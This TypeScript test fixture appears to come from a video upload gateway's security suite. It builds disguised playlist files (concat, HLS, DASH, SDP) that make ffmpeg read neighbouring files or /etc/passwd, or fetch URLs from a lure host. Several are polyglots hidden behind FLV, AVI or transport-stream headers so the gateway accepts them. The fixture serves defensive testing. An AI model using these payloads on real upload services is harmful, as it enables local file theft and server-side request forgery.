import { type Collection, type Lure, refused, taken, written } from '../hostile-file.ts';

const hls = (...entries: string[]) =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:9\n${entries.map(entry => `#EXTINF:9,\n${entry}\n`).join('')}#EXT-X-ENDLIST\n`;

const concat = (...entries: string[]) =>
  `ffconcat version 1.0\n${entries.map(entry => `file '${entry}'\n`).join('')}`;

const dash = (base: string) =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${base}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>`;

const sdp = ({ host }: Lure) =>
  `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${host.split(':')[1]} RTP/AVP 0\n`;

/** Lists of other files, under the name of a video: the classic way to make ffmpeg read what is not the uploader's. */
export const playlists: Collection = {
  name: 'playlists under the name of a video',
  files: [
    written('concat, a neighbour', refused('forbidden-content'), ({ neighbour }) => concat(neighbour)),
    written('concat, a neighbour by a relative path', refused('forbidden-content'), () =>
      concat('../neighbour.ts'),
    ),
    written('concat, /etc/passwd', refused('forbidden-content'), () => concat('/etc/passwd')),
    written('concat, a URL', refused('forbidden-content'), ({ host }) => concat(`http://${host}/a.ts`)),
    written('concat, itself', refused('forbidden-content'), () => concat('video', 'video')),
    written('HLS, a neighbour', refused('forbidden-content'), ({ neighbour }) => hls(neighbour)),
    written('HLS, a neighbour between two URLs', refused('forbidden-content'), ({ neighbour, host }) =>
      hls(`http://${host}/a.ts`, neighbour, `http://${host}/b.ts`),
    ),
    written('HLS, /etc/passwd', refused('forbidden-content'), () => hls('/etc/passwd')),
    written('HLS, a URL', refused('forbidden-content'), ({ host }) => hls(`http://${host}/a.ts`)),
    written('HLS, protocols in protocols', refused('forbidden-content'), ({ neighbour, host }) =>
      hls(`concat:${neighbour}|http://${host}/x`, `subfile,,start,0,end,999,,:${neighbour}`, `tcp://${host}`),
    ),
    written('HLS, a key by URL', refused('forbidden-content'), ({ neighbour, host }) =>
      hls(neighbour).replace('#EXTINF', `#EXT-X-KEY:METHOD=AES-128,URI="http://${host}/key"\n#EXTINF`),
    ),
    written('DASH, a neighbour', refused('forbidden-content'), ({ neighbour }) => dash(neighbour)),
    written('DASH, /etc/passwd', refused('forbidden-content'), () => dash('/etc/passwd')),
    written('DASH, a URL', refused('forbidden-content'), ({ host }) => dash(`http://${host}/a.mp4`)),
    written('SDP', refused('forbidden-content'), sdp),
    // What follows begins as a video does, so that the gateway takes it, and is a playlist to ffmpeg.
    written(
      'DASH behind the first bytes of FLV',
      taken('forbidden-content'),
      ({ host }) => `FLV\x01${dash(`http://${host}/a.mp4`)}`,
    ),
    written('SDP behind the first bytes of FLV', taken('forbidden-content'), lure => `FLV\x01\n${sdp(lure)}`),
    written(
      'HLS behind the first bytes of FLV',
      taken('not-a-video'),
      ({ host }) => `FLV\x01\n${hls(`http://${host}/a.ts`)}`,
    ),
    written(
      'DASH behind the first bytes of AVI',
      taken('not-a-video', 'corrupt', 'forbidden-content'),
      ({ host }) => `RIFF1234AVI ${dash(`http://${host}/a.mp4`)}`,
    ),
    written('SDP behind the first bytes of a transport stream', taken('forbidden-content'), lure =>
      ['G', 'G', 'G', 'G'].map(sync => `${sync}\n${sdp(lure)}`.padEnd(188, '\n')).join(''),
    ),
  ],
};
